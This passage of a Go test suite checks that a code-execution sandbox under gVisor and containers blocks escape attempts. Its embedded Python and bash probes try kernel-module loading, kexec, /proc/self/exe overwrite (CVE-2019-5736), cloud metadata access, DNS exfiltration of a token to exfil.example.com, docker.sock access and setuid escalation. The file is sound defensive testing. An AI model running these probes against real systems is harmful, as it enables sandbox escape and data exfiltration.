report('get_user_keyring', sc(250, 0, -4, 0))                              # KEYCTL_GET_KEYRING_ID
`,
		check: func(t *testing.T, o *outcome) {
			o.in(t, denied, "add_key", "request_key", "join_session", "get_user_keyring")
		}},
	{name: "bpf", lang: "python",
		code: `attr = ctypes.create_string_buffer(struct.pack('IIII', 2, 4, 4, 1), 128)   # BPF_MAP_TYPE_ARRAY
report('map_create', sc(321, 0, attr, 128))
insns = ctypes.create_string_buffer(struct.pack('<BBhiBBhi', 0xb7, 0, 0, 0, 0x95, 0, 0, 0))  # r0 = 0; exit
lic = ctypes.create_string_buffer(b'GPL')
prog = ctypes.create_string_buffer(struct.pack('<IIQQ', 1, 2, ctypes.addressof(insns), ctypes.addressof(lic)), 128)  # SOCKET_FILTER
report('prog_load', sc(321, 5, prog, 128))
`,
		check: func(t *testing.T, o *outcome) { o.in(t, denied, "map_create", "prog_load") }},
	{name: "perf-event-open", lang: "python",
		code: `attr = ctypes.create_string_buffer(struct.pack('IIQ', 1, 112, 0), 112)   # PERF_TYPE_SOFTWARE, CPU_CLOCK
report('self', sc(298, attr, 0, -1, -1, 0))
report('system_wide', sc(298, attr, -1, 0, -1, 0))
`,
		check: func(t *testing.T, o *outcome) { o.in(t, denied, "self", "system_wide") }},
	{name: "userfaultfd", lang: "python",
		code: `report('userfaultfd', sc(323, os.O_CLOEXEC | os.O_NONBLOCK))
report('user_mode_only', sc(323, 1))
attempt('dev_userfaultfd', lambda: os.open('/dev/userfaultfd', os.O_RDWR))
`,
		check: func(t *testing.T, o *outcome) {
			o.in(t, denied, "userfaultfd", "user_mode_only")
			o.in(t, noFile, "dev_userfaultfd")
		}},
	{name: "io-uring", lang: "python",
		code: `params = ctypes.create_string_buffer(120)
report('setup', sc(425, 8, params))
report('enter', sc(426, 0, 1, 0, 0, 0, 0))
report('register', sc(427, 0, 0, 0, 0))
`,
		check: func(t *testing.T, o *outcome) { o.in(t, denied, "setup", "enter", "register") }},
	{name: "clock", lang: "python",
		// Setting the clock to what it already says: harmless if it ever
		// succeeded, and still caught (the host check watches the clock).
		code: `now = time.time()
ts = (ctypes.c_long * 2)(int(now), 0)
report('clock_settime', sc(227, 0, ts))
report('settimeofday', sc(164, ts, 0))
# struct timex: modes first. Seccomp lets adjtimex through for reading the
# clock; setting it needs CAP_SYS_TIME, which no sandbox has.
tx = (ctypes.c_int * 52)()
tx[0] = 0x8001  # ADJ_OFFSET_SINGLESHOT, offset 0
report('adjtimex', sc(159, tx))
tx[0] = 0x0100  # ADJ_SETOFFSET by 0 s
report('clock_adjtime', sc(305, 0, tx))
`,
		check: func(t *testing.T, o *outcome) {
			o.in(t, denied, "clock_settime", "settimeofday", "adjtimex", "clock_adjtime")
		}},
	{name: "kexec", lang: "python",
		code: `report('kexec_load', sc(246, 0, 0, 0, 0))
report('kexec_file_load', sc(320, -1, -1, 0, cstr(''), 1))   # KEXEC_FILE_UNLOAD
`,
		check: func(t *testing.T, o *outcome) { o.in(t, denied, "kexec_load", "kexec_file_load") }},
	{name: "kernel-modules", lang: "python",
		code: `image = ctypes.create_string_buffer(b'\x7fELF' + bytes(60))
report('init_module', sc(175, image, 64, cstr('')))
fd = os.open('/dev/null', os.O_RDONLY)
report('finit_module', sc(313, fd, cstr(''), 0))
report('delete_module', sc(176, cstr('no_such_module'), os.O_NONBLOCK))
`,
		check: func(t *testing.T, o *outcome) { o.in(t, denied, "init_module", "finit_module", "delete_module") }},
	{name: "reboot", lang: "python",
		// LINUX_REBOOT_CMD_CAD_OFF: the mildest command, should it pass.
		code:  "report('reboot', sc(169, 0xfee1dead, 672274793, 0, 0))",
		check: func(t *testing.T, o *outcome) { o.in(t, denied, "reboot") }},
	{name: "swap", lang: "python",
		code: `with open('/tmp/swap', 'wb') as f:
    f.write(bytes(1 << 20))
report('swapon', sc(167, cstr('/tmp/swap'), 0))
report('swapoff', sc(168, cstr('/tmp/swap')))
`,
		check: func(t *testing.T, o *outcome) { o.in(t, denied, "swapon", "swapoff") }},
	{name: "modify-ldt", lang: "python",
		code: `desc = ctypes.create_string_buffer(struct.pack('IIII', 0, 0, 0xfffff, 0x51), 16)
report('modify_ldt_write', sc(154, 1, desc, 16))
report('modify_ldt_read', sc(154, 0, ctypes.create_string_buffer(64), 64))
report('iopl', sc(172, 3))
report('ioperm', sc(173, 0x80, 1, 1))
`,
		check: func(t *testing.T, o *outcome) {
			o.in(t, denied, "modify_ldt_write", "modify_ldt_read", "iopl", "ioperm")
		}},
	{name: "hostname", lang: "python",
		code: `report('sethostname', sc(170, cstr('pwned'), 5))
report('setdomainname', sc(171, cstr('pwned'), 5))
`,
		check: func(t *testing.T, o *outcome) { o.in(t, denied, "sethostname", "setdomainname") }},
	{name: "priority", lang: "python",
		code: `report('nice', sc(141, 0, 0, -20))                                  # setpriority
report('sched_fifo', sc(144, 0, 1, ctypes.byref(ctypes.c_int(1))))
report('ioprio_rt', sc(251, 1, 0, (1 << 13) | 0))                   # IOPRIO_CLASS_RT
`,
		check: func(t *testing.T, o *outcome) {
			o.notOK(t, "sched_fifo", "ioprio_rt")
			if o.tier == sandbox.IsolationContainer {
				// gVisor accepts nice -20 for its own scheduler, which
				// does not pass priorities to the host.
				o.notOK(t, "nice")
			}
		}},
	{name: "proc-self-exe", lang: "python",
		// CVE-2019-5736: overwrite the runtime through /proc/self/exe.
		code: `for key, path in (('self_exe', '/proc/self/exe'), ('init_exe', '/proc/1/exe'), ('agent', '/.corral/agent')):
    attempt(key, lambda: os.close(os.open(path, os.O_WRONLY)))
`,
		check: func(t *testing.T, o *outcome) {
			if o.root && o.tier == sandbox.IsolationGVisor {
				// The program's own python is root's to write in its
				// writable system, and gVisor has no ETXTBSY: what
				// matters is that the agent, the sandbox's init and the
				// host's runtime stay out of reach.
				o.in(t, []string{"ok", "ETXTBSY"}, "self_exe")
				o.in(t, []string{"EACCES", "EROFS", "EPERM", "ETXTBSY", "ENOENT"}, "init_exe", "agent")
				return
			}
			o.in(t, []string{"EACCES", "EROFS", "EPERM", "ETXTBSY", "ENOENT"}, "self_exe", "init_exe", "agent")
		}},

	// Sockets.
	{name: "af-packet", lang: "python",
		code: `attempt('raw', lambda: socket.socket(17, socket.SOCK_RAW, 0x0300).close())
attempt('dgram', lambda: socket.socket(17, socket.SOCK_DGRAM, 0x0300).close())
`,
		check: func(t *testing.T, o *outcome) { o.in(t, denied, "raw", "dgram") }},
	{name: "raw-sockets", lang: "python",
		code: `attempt('icmp', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close())
attempt('tcp', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 6).close())
attempt('ipproto_raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 255).close())
attempt('icmpv6', lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58).close())
`,
		check: func(t *testing.T, o *outcome) { o.in(t, denied, "icmp", "tcp", "ipproto_raw", "icmpv6") }},
	{name: "vsock", lang: "python",
		code: `attempt('stream', lambda: socket.socket(40, socket.SOCK_STREAM).close())
attempt('dgram', lambda: socket.socket(40, socket.SOCK_DGRAM).close())
attempt('dev', lambda: os.open('/dev/vsock', os.O_RDWR))
`,
		check: func(t *testing.T, o *outcome) {
			o.in(t, denied, "stream", "dgram")
			o.in(t, noFile, "dev")
		}},
	{name: "af-alg", lang: "python",
		code:  "attempt('alg', lambda: socket.socket(38, socket.SOCK_SEQPACKET).close())",
		check: func(t *testing.T, o *outcome) { o.in(t, denied, "alg") }},
	{name: "netlink-families", lang: "python",
		code: `for key, proto in (('sock_diag', 4), ('xfrm', 6), ('audit', 9), ('netfilter', 12), ('uevent', 15), ('generic', 16), ('crypto', 21)):
    attempt(key, lambda: socket.socket(16, socket.SOCK_RAW, proto).close())
attempt('route', lambda: socket.socket(16, socket.SOCK_RAW, 0).close())
report('interfaces', ','.join(name for _, name in socket.if_nameindex()))
`,
		check: func(t *testing.T, o *outcome) {
			o.in(t, denied, "sock_diag", "xfrm", "audit", "netfilter", "uevent", "generic", "crypto")
			o.want(t, "route", "ok")
			o.want(t, "interfaces", "lo")
		}},
	{name: "netlink-route-changes", lang: "bash",
		// Route netlink reads; changing routes, links or addresses fails.
		code: `ip -o addr show >/dev/null; echo read=$?
ip route add 10.0.0.0/8 dev lo; echo route_add=$?
ip link set lo down; echo link_down=$?
ip link add pwn0 type dummy; echo link_add=$?
ip addr add 10.9.9.9/32 dev lo; echo addr_add=$?
ip neigh add 127.0.0.2 lladdr 00:11:22:33:44:55 dev lo; echo neigh_add=$?`,
		check: func(t *testing.T, o *outcome) {
			o.want(t, "read", "0")
			o.nonZero(t, "route_add", "link_down", "link_add", "addr_add", "neigh_add")
		}},

	// The network.
	{name: "metadata-service", lang: "python",
		code: `connect('imds', ('169.254.169.254', 80))
connect('imds_v6', ('fd00:ec2::254', 80), socket.AF_INET6)
import urllib.request
attempt('http', lambda: urllib.request.urlopen('http://169.254.169.254/latest/meta-data/', timeout=3).read())
`,
		check: func(t *testing.T, o *outcome) {
			o.in(t, unreachable, "imds", "imds_v6")
			o.notOK(t, "http")
		}},
	{name: "private-ranges", lang: "python",
		code: `for key, addr in (('ten', '10.0.0.1'), ('one72', '172.16.0.1'), ('one92', '192.168.1.1'), ('cgnat', '100.64.0.1'),
                  ('bench', '198.18.0.1'), ('host', '@HOSTIP@'), ('public', '1.1.1.1')):
    connect(key, (addr, 80))
connect('host_service', ('@HOSTIP@', @TCPPORT@))
connect('ula', ('fd00::1', 80), socket.AF_INET6)
`,
		check: func(t *testing.T, o *outcome) {
			o.in(t, unreachable, "ten", "one72", "one92", "cgnat", "bench", "host", "public", "host_service", "ula")
		}},
	{name: "host-loopback", lang: "python",
		// The host listens on 127.0.0.1 and ::1 at TCPPORT; the sandbox's
		// loopback is its own.
		code: `connect('service', ('127.0.0.1', @TCPPORT@))
connect('service_v6', ('::1', @TCPPORT@), socket.AF_INET6)
for port in (22, 53, 5432, 6379, 8080):
    connect('port_%d' % port, ('127.0.0.1', port))
`,
		check: func(t *testing.T, o *outcome) {
			o.in(t, unreachable, "service", "service_v6", "port_22", "port_53", "port_5432", "port_6379", "port_8080")
		}},
	{name: "dns-exfiltration", lang: "python",
		code: `attempt('resolve', lambda: socket.getaddrinfo(TOKEN + '.exfil.example.com', 80))
def udp(addr, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM)
    try:
        s.sendto(b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00' + TOKEN.encode(), addr)
    finally:
        s.close()
attempt('udp_google', lambda: udp(('8.8.8.8', 53)))
attempt('udp_cloudflare', lambda: udp(('1.1.1.1', 53)))
attempt('udp_host', lambda: udp(('@HOSTIP@', @UDPPORT@)))
attempt('udp_v6', lambda: udp(('2001:4860:4860::8888', 53), socket.AF_INET6))
attempt('udp_loopback', lambda: udp(('127.0.0.1', @UDPPORT@)))
connect('tcp_dns', ('8.8.8.8', 53))
`,
		check: func(t *testing.T, o *outcome) {
			o.notOK(t, "resolve")
			o.in(t, unreachable, "udp_google", "udp_cloudflare", "udp_host", "udp_v6", "tcp_dns")
			// udp_loopback may be sent: it stays on the sandbox's own
			// loopback, and the host's listener on that port must see
			// nothing (host.check).
		}},
	{name: "host-unix-sockets", lang: "python",
		code: `def unix(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(path)
    finally:
        s.close()
attempt('abstract', lambda: unix('\0' + '@ABSTRACT@'[1:]))
attempt('host_sock', lambda: unix('@HOSTSOCK@'))
for key, path in (('docker', '/var/run/docker.sock'), ('containerd', '/run/containerd/containerd.sock'),
                  ('systemd', '/run/systemd/private'), ('dbus', '/run/dbus/system_bus_socket'),
                  ('postgres', '/var/run/postgresql/.s.PGSQL.5432'), ('x11', '/tmp/.X11-unix/X0')):
    attempt(key, lambda: unix(path))
attempt('run', lambda: read_probe('/run'))
# Corral's egress port is in every sandbox, but the proxy's socket in it
# exists only for executions that asked for network.
attempt('corral_run', lambda: read_probe('/.corral/run'))
attempt('egress_port', lambda: read_probe('/.corral/run/egress'))
`,
		check: func(t *testing.T, o *outcome) {
			o.in(t, []string{"ENOENT", "ECONNREFUSED", "EACCES", "ENOTDIR"}, "abstract", "host_sock", "docker", "containerd", "systemd", "dbus", "postgres", "x11")
			if strings.Contains(o.kv["run"], "corral-hostile") {
				t.Errorf("the host's /run is visible: %s", o.kv["run"])
			}
			o.in(t, []string{"ok:dir:egress"}, "corral_run")
			o.in(t, []string{"ok:dir:"}, "egress_port")
		}},

	// Devices and privileges.
	{name: "mknod", lang: "python",
		code: `report('char_mem', sc(133, cstr('/tmp/mem'), 0o20600, (1 << 8) | 1))
report('block_loop', sc(133, cstr('/tmp/loop'), 0o60600, (7 << 8) | 0))
report('char_kmsg', sc(133, cstr('/workspace/kmsg'), 0o20600, (1 << 8) | 11))
`,
		check: func(t *testing.T, o *outcome) { o.in(t, denied, "char_mem", "block_loop", "char_kmsg") }},
	{name: "dev-kmsg", lang: "python",
		code: `attempt('read', lambda: os.read(os.open('/dev/kmsg', os.O_RDONLY | os.O_NONBLOCK), 4096))
attempt('write', lambda: os.open('/dev/kmsg', os.O_WRONLY))
attempt('proc_kmsg', lambda: read_probe('/proc/kmsg'))
report('syslog_read', sc(103, 3, ctypes.create_string_buffer(4096), 4096))
report('syslog_clear', sc(103, 5, 0, 0))
`,
		check: func(t *testing.T, o *outcome) {
			o.in(t, noFile, "read", "write")
			o.in(t, emptyOrNone, "proc_kmsg")
			o.in(t, denied, "syslog_read", "syslog_clear")
		}},
	{name: "dev-mem", lang: "python",
		code: `for key in ('mem', 'kmem', 'port', 'vda', 'sda', 'nvme0', 'loop0', 'loop-control', 'fuse'):
    attempt(key, lambda: os.read(os.open('/dev/' + key, os.O_RDWR), 16))
def tun():
    import fcntl
    fd = os.open('/dev/net/tun', os.O_RDWR)
    fcntl.ioctl(fd, 0x400454ca, struct.pack('16sH', b'pwn0', 0x0001 | 0x1000))  # TUNSETIFF
attempt('tun', tun)
`,
		check: func(t *testing.T, o *outcome) {
			o.in(t, noFile, "mem", "kmem", "port", "vda", "sda", "nvme0", "loop0", "loop-control")
			// gVisor offers its own /dev/fuse and /dev/net/tun: fuse
			// opens but serves nothing without a mount (refused), and a
			// tun device needs CAP_NET_ADMIN.
			o.in(t, append([]string{"EINVAL", "EPERM"}, noFile...), "fuse", "tun")
		}},
	{name: "setuid-binaries", lang: "bash",
		code: `found=$(find /usr/bin /usr/sbin /usr/lib -maxdepth 3 -perm -4000 -type f 2>/dev/null | sort | tr '\n' ' ')
echo found=$found
grep -q ' /usr [^ ]* [^ ]*nosuid' /proc/self/mounts && echo usr_nosuid=yes || echo usr_nosuid=no
echo nnp=$(grep NoNewPrivs /proc/self/status | tr -dc 0-9)
mkdir -p /tmp/m
/usr/bin/mount -t tmpfs none /tmp/m; echo mount=$?
/usr/bin/su -c 'id -u' root </dev/null; echo su=$?
echo 'id -u' | /usr/bin/newgrp; echo newgrp=$?
echo euid=$(id -u)`,
		check: func(t *testing.T, o *outcome) {
			if !strings.Contains(o.kv["found"], "/usr/bin/su") {
				t.Errorf("no setuid binary to try: %q", o.kv["found"])
			}
			o.want(t, "usr_nosuid", "yes")
			o.want(t, "nnp", "1")
			o.nonZero(t, "mount", "su", "newgrp")
			if o.root {
				o.want(t, "euid", "0")
			} else {
				o.want(t, "euid", "1000")
			}
		}},
}

// sigSyscalls defines call(name, nr, args...), which makes a raw system call
// and reports 0 or the errno name, and the numbers it needs (x86-64).
const sigSyscalls = `SYS_kill, SYS_tkill, SYS_tgkill, SYS_rt_sigqueueinfo, SYS_pidfd_open, SYS_pidfd_send_signal = 62, 200, 234, 129, 434, 424
libc.syscall.restype = ctypes.c_long
def call(name, *args):
    r = libc.syscall(*[ctypes.c_long(a) for a in args])
    report(name, '0' if r >= 0 else errname(ctypes.get_errno()))
`

// signalInit returns a program that sends PID 1 the signals, then says
// it is alive: the record shows the agent survived.
func signalInit(signals ...int) string {
	var s []string
	for _, n := range signals {
		s = append(s, strconv.Itoa(n))
	}
	return "for s in (" + strings.Join(s, ", ") + ",):\n    try:\n        os.kill(1, s)\n    except OSError as e:\n        report('kill_%d' % s, errname(e.errno))\ntime.sleep(0.3)\nreport('alive', 'yes')\n"
}

// floodMiB is how much output-flood writes on each tier: the issue's
// 10 GB where it fits the package's time budget on this 2-core machine.
// Measured here (the test logs it): runc streams about 390 MB/s through the
// agent, so 10 GiB takes about 28 s; gVisor about 73 MB/s, where 10 GiB
// would take about 150 s, so it floods 2 GiB (about 30 s).
var floodMiB = map[sandbox.Isolation]int{sandbox.IsolationContainer: 10240, sandbox.IsolationGVisor: 2048}

func checkFlood(t *testing.T, o *outcome) {
	r := o.res
	mib := int64(floodMiB[o.tier])
	wantBytes := mib<<20 + 10
	if r.StdoutBytes != wantBytes || r.StdoutLines != mib*1024+2 || !r.StdoutTruncated {
		t.Errorf("bytes %d lines %d truncated %v; want %d, %d, true", r.StdoutBytes, r.StdoutLines, r.StdoutTruncated, wantBytes, mib*1024+2)
	}
	head, tail, ok := strings.Cut(r.Stdout, "\n[… ")
	if !ok || !strings.HasPrefix(head, "HEAD\n") || !strings.HasSuffix(tail, "TAIL\n") {
		t.Errorf("stdout is not head, marker, tail: %.60q … %.60q", r.Stdout, r.Stdout[max(0, len(r.Stdout)-60):])
	}
	if len(r.Stdout) > 2*64<<10+128 {
		t.Errorf("the record keeps %d bytes of stdout", len(r.Stdout))
	}
	if o.wall > 0 {
		t.Logf("%d MiB in %v: %.0f MB/s", mib, o.wall.Round(1e7), float64(r.StdoutBytes)/1e6/o.wall.Seconds())
	}
}

// limitHit asserts a success, exit 0, whose record lists limit among the
// limits hit and whose summary names it; it returns the record's entry.
func (o *outcome) limitHit(t *testing.T, limit sandbox.Limit) sandbox.LimitHit {
	t.Helper()
	if r := o.res; r.Status != sandbox.StatusSuccess || r.ExitCode == nil || *r.ExitCode != 0 {
		t.Errorf("status %s %+v, exit code %v, want success, 0", r.Status, r.Error, r.ExitCode)
	}
	return o.limitNamed(t, limit)
}

// limitNamed asserts, whatever the verdict, that the record lists limit
// among the limits hit and the summary names it; it returns the entry.
func (o *outcome) limitNamed(t *testing.T, limit sandbox.Limit) sandbox.LimitHit {
	t.Helper()
	r := o.res
	var hit sandbox.LimitHit
	for _, h := range r.LimitsHit {
		if h.Limit == limit {
			hit = h
		}
	}
	if hit.Limit == "" || hit.Max <= 0 || hit.Detail == "" {
		t.Errorf("limits_hit %+v, want a %s entry with its limit and detail (stderr %s)", r.LimitsHit, limit, clip(r.Stderr))
		return hit
	}
	if !strings.Contains(r.Summary, "\nlimits hit: ") || !strings.Contains(r.Summary, string(limit)+" ("+hit.Detail+")") {
		t.Errorf("the summary does not name the %s limit:\n%s", limit, r.Summary)
	}
	t.Logf("limits_hit %+v\nsummary:\n%s", r.LimitsHit, r.Summary)
	return hit
}

// atLeast, atMost: an integer value's bounds.
func (o *outcome) atLeast(t *testing.T, key string, n int) {
	t.Helper()
	if v, err := strconv.Atoi(o.kv[key]); err != nil || v < n {
		t.Errorf("%s = %q, want at least %d", key, o.kv[key], n)
	}
}

func (o *outcome) atMost(t *testing.T, key string, n int) {
	t.Helper()
	if v, err := strconv.Atoi(o.kv[key]); err != nil || v > n {
		t.Errorf("%s = %q, want at most %d", key, o.kv[key], n)
	}
}
